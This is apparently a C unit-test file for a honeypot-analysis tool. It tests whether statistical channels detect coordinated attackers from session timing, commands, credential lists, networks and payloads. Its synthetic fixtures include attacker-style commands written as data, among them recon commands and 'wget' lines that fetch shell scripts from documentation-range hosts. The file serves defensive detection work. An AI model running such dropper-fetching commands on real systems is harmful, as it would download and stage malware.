/* test_channels.c - every channel of evidence: sees what is planted, keeps its level on independent sources that share
 * working hours, bursts, popular credentials and crowded networks, and abstains when there is nothing to test. */
#include "testing.h"

#include <math.h>
#include <stdlib.h>

#include "detect/channel/channel.h"
#include "detect/stats.h"
#include "reference/reference.h"
#include "study.h"

enum {
	NODES = 300,
	SET = 6,
	SETS = NODES / SET,
	WORLDS = 199,
	LEVEL_WORLDS = 99,
	BURSTS = 12,
	DAYS = 7
};

/* What the first SET sources of a scene have in common. */
enum planted { NOTHING, TIMES, SCRIPTS, LISTS, NETWORK, PAYLOADS };

static double
diurnal_second(struct rng *rng)
{
	for (;;) {
		double s = 86400 * rng_uniform(rng);

		if (rng_uniform(rng) < 0.15 + 0.85 * pow(sin(s / 86400 * 3.14159), 2))
			return s;
	}
}

static double
visit_time(uint64_t seed, struct rng *rng)
{
	struct rng burst = rng_at(seed, 2, 0, rng_below(rng, BURSTS));

	if (rng_below(rng, 10) < 3)
		return 86400.0 * DAYS * rng_uniform(&burst) + 300 * rng_exponential(rng);
	return 86400.0 * rng_below(rng, DAYS) + diurnal_second(rng);
}

/* Four of ten sources sit in ten crowded networks of two providers. */
static uint32_t
address(uint32_t node, bool neighbours, struct rng *rng)
{
	if (neighbours)
		return 0x2d000000 + node;
	if (rng_below(rng, 10) < 4)
		return 0x5b000000 + (rng_below(rng, 2) << 16) +
		       ((rng_below(rng, 5) + node / 256 * 8) << 8) + node % 256;
	return 0x60000000 + (node << 16) + rng_below(rng, 65536);
}

static void
fill_payload(char *out, size_t size, uint32_t family, uint32_t salt)
{
	size_t at = (size_t)snprintf(out, size, "family %u ", family);
	struct rng rng = rng_at(family, 4, 0, 0);

	while (at + 20 < size)
		out[at++] = (char)('a' + rng_below(&rng, 26));
	(void)snprintf(out + at, size - at, " %u", salt);
}

static void
add_source(struct batch *b, uint32_t node, enum planted planted, uint64_t seed)
{
	static const char *const scripts[] = { "uname -a", "cat /proc/cpuinfo", "free -m",
		"ls -la /tmp", "whoami", "w", "crontab -l" };
	struct rng rng = rng_at(seed, 1, 0, node);
	bool member = node < SET;
	uint32_t visits = 8 + rng_below(&rng, 8);
	uint32_t ip = address(node, member && planted == NETWORK, &rng);

	for (uint32_t v = 0; v < visits; v++) {
		char words[6][32], payload[200];
		struct batch_session s = { .ip = ip, .at_s = visit_time(seed, &rng) };

		if (member && planted == TIMES && v < 4) {
			struct rng task = rng_at(seed, 3, v, 0);

			s.at_s = 86400.0 * DAYS * rng_uniform(&task) + 20 * rng_uniform(&rng);
		}
		for (uint32_t k = 0; k < 6; k++) {
			(void)snprintf(
			    words[k], 32, "root %u", (uint32_t)pow(500, rng_uniform(&rng)));
			if (member && planted == LISTS && k < 3)
				(void)snprintf(words[k], 32, "root private%u", 3 * (v % 4) + k);
			s.credentials[k] = words[k];
		}
		for (uint32_t k = 0; k < 3; k++)
			s.commands[k] = scripts[rng_below(&rng, 7)];
		if (member && planted == SCRIPTS) {
			s.commands[0] = "perl /tmp/qq.pl --go";
			s.commands[1] = "lsattr /etc/hosts";
		}
		/* everybody's droppers, of eight families, each copy with a salt of its own */
		if (node % 3 > 0 || (member && planted == PAYLOADS)) {
			fill_payload(payload, sizeof(payload),
			    member && planted == PAYLOADS ? 9 : node % 8, rng_u32(&rng));
			s.forward = v == 0 ? payload : NULL;
		}
		batch_add(b, &s);
	}
}

static void
begin_scene(struct study *s, enum planted planted, uint64_t seed, const struct reference *ref)
{
	struct batch *b = batch_new();

	for (uint32_t i = 0; i < NODES; i++)
		add_source(b, i, planted, seed);
	study_begin(s, b, ref);
	assert_int_equal(s->m.n_strata, 1);
	assert_int_equal(s->m.n_nodes, NODES);
}

/* Nodes are numbered by first visit: those of the planted sources, ascending. */
static void
planted_nodes(const struct study *s, enum planted planted, uint64_t seed, uint32_t nodes[SET])
{
	uint32_t n = 0;

	for (uint32_t i = 0; i < s->m.n_nodes; i++)
		for (uint32_t k = 0; k < SET; k++) {
			struct rng rng = rng_at(seed, 1, 0, k);
			uint32_t ip;

			(void)rng_below(&rng, 8); /* visits come first */
			ip = address(k, planted == NETWORK, &rng);
			if (addr_cmp(s->m.source_addr[s->m.node_source[i]], addr_from_v4(ip)) ==
				0 &&
			    n < SET)
				nodes[n++] = i;
		}
	assert_int_equal(n, SET);
}

static struct channel_input
input_of(struct study *s, const uint32_t *nodes, uint32_t n, uint32_t draws_most)
{
	return (struct channel_input){ .m = &s->m,
		.observed = &s->observed,
		.nodes = nodes,
		.n = n,
		.seed = 5 + nodes[0],
		.draws_first = 199,
		.draws_most = draws_most,
		.threads = 1,
		.arena = s->arena };
}

static struct detect_evidence
ask_channel(
    struct study *s, enum detect_channel c, const uint32_t *nodes, uint32_t n, uint32_t draws)
{
	struct channel_input in = input_of(s, nodes, n, draws);
	struct detect_evidence e = { .p = NAN, .effect = NAN, .log_e = NAN };
	struct coord_error err;

	assert_int_equal(channels[c]->test(&in, &e, &err), COORD_OK);
	return e;
}

/* p-values of statistic channels of several sets, over the same null worlds. */
static void
ask_statistic(struct study *s, enum detect_channel c, const uint32_t (*sets)[SET], uint32_t n_sets,
    uint32_t worlds, struct detect_evidence *ret)
{
	double *null = calloc((size_t)n_sets * worlds, sizeof(*null));
	struct arena *scratch = arena_new(0);
	struct coord_error err;

	assert_true(null != NULL && scratch != NULL);
	for (uint32_t k = 0; k < worlds; k++) {
		struct arena_mark mark = arena_mark(scratch);
		struct world w;

		assert_int_equal(world_null(s->plan, 3, k + 1, scratch, &w, &err), COORD_OK);
		for (uint32_t i = 0; i < n_sets; i++)
			null[i * worlds + k] = channels[c]->statistic(&w, sets[i], SET, 5, scratch);
		arena_rewind(scratch, mark);
	}
	for (uint32_t i = 0; i < n_sets; i++) {
		double observed = channels[c]->statistic(&s->observed, sets[i], SET, 5, scratch);

		ret[i] = (struct detect_evidence){ .channel = c, .abstained = isnan(observed) };
		channel_rank(observed, null + (size_t)i * worlds, worlds, &ret[i]);
	}
	free(null);
	arena_free(scratch);
}

static void
test_planted_is_seen(void **state)
{
	static const struct {
		enum planted planted;
		enum detect_channel channel;
		const char *top; /* part of the strongest contributor, NULL: none is listed */
	} cases[] = {
		{ TIMES, CHANNEL_SYNCHRONY, NULL },
		{ SCRIPTS, CHANNEL_BEHAVIOUR, "qq.pl" },
		{ LISTS, CHANNEL_DICTIONARY, "private" },
		{ NETWORK, CHANNEL_INFRASTRUCTURE, "45.0.0.0/29" },
		{ PAYLOADS, CHANNEL_PAYLOAD, "family 9" },
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		enum detect_channel c = cases[i].channel;
		struct study s;
		struct detect_evidence e;
		struct coord_error err;
		uint32_t nodes[1][SET];

		begin_scene(&s, cases[i].planted, 40, NULL);
		planted_nodes(&s, cases[i].planted, 40, nodes[0]);
		if (channels[c]->test != NULL) {
			e = ask_channel(&s, c, nodes[0], SET, 999);
		} else {
			struct channel_input in = input_of(&s, nodes[0], SET, 0);

			ask_statistic(&s, c, (const uint32_t(*)[SET])nodes, 1, WORLDS, &e);
			assert_int_equal(channels[c]->describe(&in, &e, &err), COORD_OK);
		}
		if (!(e.p < 0.01 && e.effect > 1.5 && e.similarity > 0.3 && !e.abstained))
			fail_msg("%s: p %f, effect %f", detect_channel_name(c), e.p, e.effect);
		assert_non_null(e.detail);
		assert_int_equal(e.n, SET);
		if (cases[i].top != NULL)
			assert_non_null(strstr(e.top[0].what, cases[i].top));
		study_end(&s);
	}
}

/* Disjoint sets of a shuffled scene. */
static void
deal_sets(uint64_t seed, uint32_t sets[SETS][SET])
{
	uint32_t order[NODES];
	struct rng rng = rng_at(seed, 9, 0, 0);

	for (uint32_t i = 0; i < NODES; i++) {
		uint32_t j = rng_below(&rng, i + 1);

		order[i] = order[j];
		order[j] = i;
	}
	for (uint32_t i = 0; i < SETS; i++)
		for (uint32_t k = 0; k < SET; k++) {
			uint32_t at = k, node = order[i * SET + k];

			for (; at > 0 && sets[i][at - 1] > node; at--)
				sets[i][at] = sets[i][at - 1];
			sets[i][at] = node;
		}
}

/* Rejections at 0.05 among all null sets: not above the upper 99.9 % bound of an exact binomial. */
static void
check_level(enum detect_channel c, const struct reference *ref)
{
	uint32_t scenes = test_quick() ? 1 : 4, sets_each = test_quick() ? 20 : SETS;
	uint32_t rejected = 0, n = 0, high = 0;

	for (uint32_t scene = 0; scene < scenes; scene++) {
		struct study s;
		uint32_t sets[SETS][SET];
		struct detect_evidence e[SETS];

		begin_scene(&s, NOTHING, 100 + scene, ref);
		deal_sets(scene, sets);
		if (channels[c]->test == NULL)
			ask_statistic(
			    &s, c, (const uint32_t(*)[SET])sets, sets_each, LEVEL_WORLDS, e);
		for (uint32_t i = 0; i < sets_each; i++) {
			if (channels[c]->test != NULL)
				e[i] = ask_channel(&s, c, sets[i], SET, 199);
			if (e[i].abstained)
				continue;
			assert_true(e[i].p > 0 && e[i].p <= 1);
			rejected += e[i].p <= 0.05;
			high += e[i].p > 0.5;
			n++;
		}
		study_end(&s);
	}
	print_message("%s: %u of %u null sets rejected at 0.05, %u with p > 0.5\n",
	    detect_channel_name(c), rejected, n, high);
	if (stats_log_binomial_upper(rejected, n, 0.05) < log(0.0005))
		fail_msg("%s rejects %u of %u null sets", detect_channel_name(c), rejected, n);
	/* and is no constant: the larger half of p-values is there */
	assert_true(high > n / 4);
}

static void
test_level_of_synchrony(void **state)
{
	(void)state;
	check_level(CHANNEL_SYNCHRONY, NULL);
}

/* Independent actors copy whole scripts, and the lines of one come together: only a background knows which do. */
static void
test_level_of_behaviour(void **state)
{
	struct batch *b = batch_new();
	struct session_table before;
	struct reference *ref;

	(void)state;
	for (uint32_t i = 0; i < 4 * NODES; i++)
		add_source(b, i, NOTHING, 7);
	before = batch_finish(b);
	ref = study_reference(&before);
	check_level(CHANNEL_BEHAVIOUR, ref);
	reference_close(ref);
	session_table_free(&before);
}

static void
test_level_of_dictionary(void **state)
{
	(void)state;
	check_level(CHANNEL_DICTIONARY, NULL);
}

static void
test_level_of_infrastructure(void **state)
{
	(void)state;
	check_level(CHANNEL_INFRASTRUCTURE, NULL);
}

static void
test_level_of_payload(void **state)
{
	(void)state;
	check_level(CHANNEL_PAYLOAD, NULL);
}

static void
test_abstain(void **state)
{
	struct batch *b = batch_new();
	struct study s;
	uint32_t nodes[2];

	(void)state;
	for (uint32_t i = 0; i < 4; i++)
		batch_add(b, &(struct batch_session){ .ip = 0x0a000001,
				 .at_s = 1000.0 * i,
				 .service = i % 2 == 0 ? SERVICE_SSH : SERVICE_TELNET });
	batch_add(b, &(struct batch_session){ .ip = 0x0a000002, .at_s = 50000 });
	study_begin(&s, b, NULL);
	nodes[0] = 0;
	nodes[1] = 1;
	/* two nodes of one source: no time test, no place; and nothing was left to compare */
	assert_int_equal(s.m.node_source[0], s.m.node_source[1]);
	assert_true(ask_channel(&s, CHANNEL_SYNCHRONY, nodes, 2, 199).abstained);
	assert_true(ask_channel(&s, CHANNEL_INFRASTRUCTURE, nodes, 2, 199).abstained);
	assert_true(ask_channel(&s, CHANNEL_ARTEFACT, nodes, 2, 199).abstained);
	assert_true(isnan(channel_behaviour.statistic(&s.observed, nodes, 2, 1, s.arena)));
	assert_true(isnan(channel_dictionary.statistic(&s.observed, nodes, 2, 1, s.arena)));
	assert_true(isnan(channel_payload.statistic(&s.observed, nodes, 2, 1, s.arena)));
	study_end(&s);
}

/* Nobody but the members: the uniform null is known to be too lively, so it claims no p below 0.05. */
static void
test_uniform_fallback(void **state)
{
	struct batch *b = batch_new();
	struct study s;
	struct detect_evidence e;
	uint32_t nodes[6] = { 0, 1, 2, 3, 4, 5 };

	(void)state;
	for (uint32_t i = 0; i < 6; i++)
		for (uint32_t v = 0; v < 20; v++)
			batch_add(b, &(struct batch_session){ .ip = 0x0a000000 + (i << 16),
					 .at_s = 7777.7 * v + 0.7 * i });
	study_begin(&s, b, NULL);
	e = ask_channel(&s, CHANNEL_SYNCHRONY, nodes, 6, 9999);
	assert_true(fabs(e.p - 0.05) < 1e-12);
	assert_non_null(strstr(e.null_name, "uniform"));
	assert_true(e.effect > 1);
	study_end(&s);
}

/* Only the strongest artefact counts, and only one that half of the nodes carry. */
static void
test_artefact_counts_the_strongest(void **state)
{
	struct batch *b = batch_new();
	struct study s;
	struct detect_evidence e;
	uint32_t nodes[6] = { 0, 1, 2, 3, 4, 5 };

	(void)state;
	for (uint32_t i = 0; i < 6; i++)
		batch_add(b, &(struct batch_session){ .ip = 0x0a000000 + i,
				 .at_s = i,
				 .key = i < 2 ? "SHA256:minority" : NULL,
				 .commands = { "wget http://203.0.113.9/bins.sh",
				     "wget http://203.0.113.8/two.sh" } });
	study_begin(&s, b, NULL);
	e = ask_channel(&s, CHANNEL_ARTEFACT, nodes, 6, 0);
	assert_false(e.abstained);
	assert_true(isnan(e.p)); /* a prior is no p-value */
	assert_true(fabs(e.log_e - log(1e3)) < 1e-9);
	assert_int_equal(e.n, 6);
	assert_true(e.similarity == 1);
	assert_true(e.n_top >= 3);
	/* the minority's key is the stronger kind and half of these three */
	e = ask_channel(&s, CHANNEL_ARTEFACT, nodes, 3, 0);
	assert_true(fabs(e.log_e - log(1e4)) < 1e-9);
	study_end(&s);
}

/* Pairs: all of a small set once each, a sample without a node with itself of a large one. */
static void
test_pairs(void **state)
{
	struct study s;
	uint32_t nodes[NODES];
	bool seen[20][20] = { { false } };

	(void)state;
	begin_scene(&s, NOTHING, 1, NULL);
	for (uint32_t i = 0; i < NODES; i++)
		nodes[i] = i;
	assert_int_equal(channel_pairs(2), 1);
	assert_int_equal(channel_pairs(20), 190);
	assert_int_equal(channel_pairs(NODES), CHANNEL_PAIRS_MOST);
	for (uint32_t i = 0; i < 190; i++) {
		uint32_t a, b;

		(void)channel_pair(&s.observed, nodes, 20, 1, i, &a, &b);
		assert_true(a < b && b < 20 && !seen[a][b]);
		seen[a][b] = true;
	}
	for (uint32_t i = 0; i < CHANNEL_PAIRS_MOST; i++) {
		uint32_t a, b;
		bool different = channel_pair(&s.observed, nodes, NODES, 1, i, &a, &b);

		assert_true(a < b && b < NODES);
		assert_int_equal(different, s.m.node_source[a] != s.m.node_source[b]);
	}
	study_end(&s);
}

static void
test_rank(void **state)
{
	static const double null[] = { 1, 2, 3, 4, 5, 5, 5, 5, 5 };
	struct detect_evidence e = { .p = NAN };

	(void)state;
	channel_rank(5, null, 9, &e);
	assert_true(fabs(e.p - 0.6) < 1e-12);
	assert_int_equal(e.worlds, 9);
	assert_true(
	    fabs(e.effect - 5 / 4.0) < 1e-12); /* the mean of ten, the observed among them */
	assert_true(fabs(e.similarity - 0.2) < 1e-12);
	channel_rank(6, null, 9, &e);
	assert_true(fabs(e.p - 0.1) < 1e-12);
	channel_rank(0, null, 9, &e);
	assert_true(e.p == 1 && isnan(e.effect) && isnan(e.similarity));
	assert_true(channel_attributable(0.5) == 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_planted_is_seen),
		cmocka_unit_test(test_level_of_synchrony),
		cmocka_unit_test(test_level_of_behaviour),
		cmocka_unit_test(test_level_of_dictionary),
		cmocka_unit_test(test_level_of_infrastructure),
		cmocka_unit_test(test_level_of_payload),
		cmocka_unit_test(test_abstain),
		cmocka_unit_test(test_uniform_fallback),
		cmocka_unit_test(test_artefact_counts_the_strongest),
		cmocka_unit_test(test_pairs),
		cmocka_unit_test(test_rank),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
